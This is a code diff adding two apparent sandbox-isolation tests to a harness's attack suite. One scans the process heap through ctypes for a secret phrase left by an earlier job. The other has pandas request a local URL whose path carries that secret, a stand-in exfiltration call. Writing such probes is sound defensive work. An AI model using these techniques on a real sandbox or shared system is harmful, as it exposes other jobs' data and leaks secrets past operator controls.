@@ -279,3 +279,30 @@ def earlier_job_read(values: Array, seconds: Array) -> Array:
             found += type(each) is list and any(str(one) == "told to nobody" for one in each)
         frame = frame.f_back
     return values * 0 + (found > 0)
+
+
+@attack(P.HARNESS, stopped=Ran)
+def earlier_job_in_memory(values: Array, seconds: Array) -> Array:
+    """Searches what memory its process was given for words of the job before."""
+    import ctypes
+
+    class Heap(ctypes.Structure):
+        _fields_ = [(letter, ctypes.c_size_t) for letter in "abcdefghij"]
+
+    libc = ctypes.CDLL(None)
+    libc.mallinfo2.restype = Heap
+    libc.sbrk.restype, libc.sbrk.argtypes = ctypes.c_void_p, [ctypes.c_ssize_t]
+    size = libc.mallinfo2().a
+    return values * 0 + (b"ydobon ot dlot"[::-1] in ctypes.string_at(libc.sbrk(0) - size, size))
+
+
+@attack(P.CALLS, P.NETWORK, says="not permitted")
+def read_csv_over_the_network(values: Array, seconds: Array) -> Array:
+    """Has pandas fetch an address whose name tells a secret."""
+    import pandas as pd
+
+    try:
+        pd.read_csv("http://127.0.0.1:@TCP@/told-to-nobody")
+    except ConnectionError:  # somebody was there, and hung up
+        return values * 0 + 1
+    return values * 0
